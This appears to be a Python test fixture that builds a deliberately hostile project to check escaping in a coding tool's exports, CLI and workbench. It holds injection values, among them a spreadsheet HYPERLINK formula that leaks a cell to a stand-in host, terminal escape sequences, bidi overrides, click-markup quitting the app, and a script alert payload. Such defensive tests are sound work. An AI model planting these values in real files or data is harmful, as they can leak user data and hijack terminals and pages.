"""A hostile project: names and transcript text that try to be formulas, markup, HTML or
terminal commands. Shared by the export, CLI and workbench tests of issue #13.

The store refuses "/" in code names, so the one code name with a closing tag is written
with SQL, as a hand-edited or foreign project file could hold it.
"""

from __future__ import annotations

import sqlite3
from pathlib import Path

from coder.store import Project
from tests.tui.conftest import build_text

MARKUP = ("[/]", "[@click=app.quit]hier[/]", "[lacht]", "[onverstaanbaar]", "[stilte 5 sec]")
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A2,"klik")'
ESCAPES = "\x1b[2J\x1b]0;gekaapt\x07\x1b[31m"  # clear screen, window title, red
BIDI = "\u202e\u2066"

MARKUP_CODE = "[@click=app.quit]x[/]"
LAUGH_CODE = "[lacht]"
FORMULA_CODE = "=1+2"
ESCAPE_CODE = f"Wacht{ESCAPES}tijden{BIDI}"
HTML_CODE = "<b>Vet<b> & | pijp"
MARKUP_DOCUMENT = "[/]Gesprek [lacht]"
ESCAPE_DOCUMENT = f"Gesprek{ESCAPES}{BIDI} Zuilen"
MARKUP_SPEAKER = "[/]"
MEMO = "[/] memo [lacht] [@click=app.quit]m[/]"

TURNS = [
    (MARKUP_SPEAKER, "[lacht] ja [/] [@click=app.quit]hier[/] [onverstaanbaar] [stilte 5 sec]"),
    ("Moeder", FORMULA),
    ("Jongere", "-1+2 is wat ik zei"),
    ("Buurtteam", "@SUM(1;2) en\ttab"),
    ("Vader", "+31 6 12345678"),
    ("Opa", "\ttab vooraan"),
    ("Oma", "form\x0cfeed en \x01 controle"),
    ("Oom", "<script>alert(1)</script> & meer | pijp"),
]


def make_hostile_project(path: Path) -> Path:
    project = Project.create(path, coder="tester")
    codes = {
        name: project.add_code(name, definition=f"Definitie van {name} <i>schuin<i>")
        for name in ("klikbaar", LAUGH_CODE, FORMULA_CODE, ESCAPE_CODE, HTML_CODE)
    }
    text, segments = build_text([(speaker, words, None) for speaker, words in TURNS])
    attributes = {"region": "[/]", "setting": "=1+1"}
    documents = [
        project.add_document(
            name=name,
            original_filename=f"{i}.txt",
            sha256=f"hash{i}",
            format="txt",
            text=text,
            segments=segments,
            attributes=attributes,
        )
        for i, name in enumerate((MARKUP_DOCUMENT, ESCAPE_DOCUMENT))
    ]
    for document in documents:
        for i, segment in enumerate(segments):
            code = list(codes.values())[i % len(codes)]
            project.add_coding(document.id, segment.start, segment.end, code.id, memo=MEMO)
        project.add_memo("document", document.id, MEMO)
    project.close()
    with sqlite3.connect(path) as connection:
        connection.execute(
            "UPDATE codes SET name = ? WHERE id = ?", (MARKUP_CODE, codes["klikbaar"].id)
        )
    connection.close()
    return path
